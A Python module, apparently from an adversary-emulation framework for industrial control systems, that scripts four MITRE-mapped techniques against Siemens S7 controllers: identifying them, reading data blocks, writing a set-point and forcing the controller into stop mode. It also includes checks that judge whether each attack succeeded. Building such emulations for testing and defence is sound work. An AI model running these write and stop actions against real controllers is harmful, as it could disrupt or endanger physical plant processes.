# Techniques against controllers that speak S7: asking what they are, reading their memory, writing a
# set-point, and stopping the program, which switches every output off.
from __future__ import annotations

from policies import AttackStep, Fidelity, Title

from . import s7
from .journal import Frame
from .program import RUNNING
from .s7_master import S7Master
from .technique import Attacker, Seen, Technique, number

__all__ = ["S7_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
_PORT = 102
_LISTS = (0x0011, 0x001C, 0x0424)


async def _identify(attacker: Attacker, _step: AttackStep, target: str) -> None:
    """What the controller says it is, and in which mode, list by list."""
    master = await S7Master.open(attacker.wire, attacker.address, target)
    for each in _LISTS:
        attacker.loot.setdefault("lists", []).extend(await master.records(each))
        await attacker.clock.sleep(attacker.random.uniform(0.1, 0.5))
    await master.close()


async def _read(attacker: Attacker, step: AttackStep, target: str) -> None:
    """A data block piece by piece, again and again."""
    master = await S7Master.open(attacker.wire, attacker.address, target)
    for _ in range(int(number(step, "times", 1))):
        block = await master.block(int(number(step, "db", 1)), int(number(step, "bytes", 16)))
        attacker.loot.setdefault("blocks", []).append(block)
        await attacker.clock.sleep(number(step, "pause_s", 2))
    await master.close()


async def _write(attacker: Attacker, step: AttackStep, target: str) -> None:
    place = s7.address_of(str(step.parameters.get("at", "DB1.DBD0")))
    master = await S7Master.open(attacker.wire, attacker.address, target)
    await master.write(place, number(step, "value", 0))
    await master.close()


async def _stop(attacker: Attacker, _step: AttackStep, target: str) -> None:
    master = await S7Master.open(attacker.wire, attacker.address, target)
    await master.mode(run=False)
    await master.close()


def _was_told(_step: AttackStep, seen: Seen) -> bool:
    return sum(s7.function_of(each.payload) == s7.SZL for each in _done(seen)) >= len(_LISTS)


def _has_memory(step: AttackStep, seen: Seen) -> bool:
    """As much memory handed over as was meant."""
    blocks = [each for each in _done(seen) if s7.function_of(each.payload) == s7.READ]
    held = sum(len(each or b"") for frame in blocks for each in s7.data_values(frame.payload))
    return held >= number(step, "times", 1) * number(step, "bytes", 16)


def _is_written(step: AttackStep, seen: Seen) -> bool:
    """The controller took it and a setting of its is another; with `point`, the plant's point too."""
    taken = any(s7.function_of(each.payload) == s7.WRITE for each in _done(seen))
    before, after = seen.settings
    changed = any(
        key.startswith(f"{step.to} ") and value != before[key] for key, value in after.items()
    )
    return taken and changed and _has_moved(step, seen)


def _stands_still(step: AttackStep, seen: Seen) -> bool:
    """The controller is stopped; with `point`, what it drove stands."""
    _, settings = seen.settings
    return settings.get(f"{step.to} {RUNNING}") == 0 and _has_moved(step, seen)


def _has_moved(step: AttackStep, seen: Seen) -> bool:
    point = str(step.parameters.get("point", ""))
    before, after = seen.points
    return not point or before.get(point) != after.get(point)


def _done(seen: Seen) -> list[Frame]:
    """Replies that say yes."""
    return [
        each
        for each in seen.frames
        if each.kind == "reply" and each.port == _PORT and not s7.is_refusal(each.payload)
    ]


S7_TECHNIQUES = {
    "s7-identify": Technique(
        {"T0888": Title(zh="远程系统信息发现", en="Remote System Information Discovery")},
        _EVERYWHERE, _identify, _was_told,
    ),
    "s7-read": Technique(
        {
            "T0861": Title(zh="点位与标签识别", en="Point & Tag Identification"),
            "T0801": Title(zh="监视过程状态", en="Monitor Process State"),
        },
        _EVERYWHERE, _read, _has_memory,
    ),
    "s7-write": Technique(
        {
            "T0836": Title(zh="修改参数", en="Modify Parameter"),
            "T1692.001": Title(zh="未授权报文：命令报文", en="Unauthorized Message: Command Message"),
        },
        _EVERYWHERE, _write, _is_written,
    ),
    "s7-stop": Technique(
        {
            "T0858": Title(zh="更改运行模式", en="Change Operating Mode"),
            "T0816": Title(zh="设备重启/停机", en="Device Restart/Shutdown"),
        },
        _EVERYWHERE, _stop, _stands_still,
    ),
}  # fmt: skip
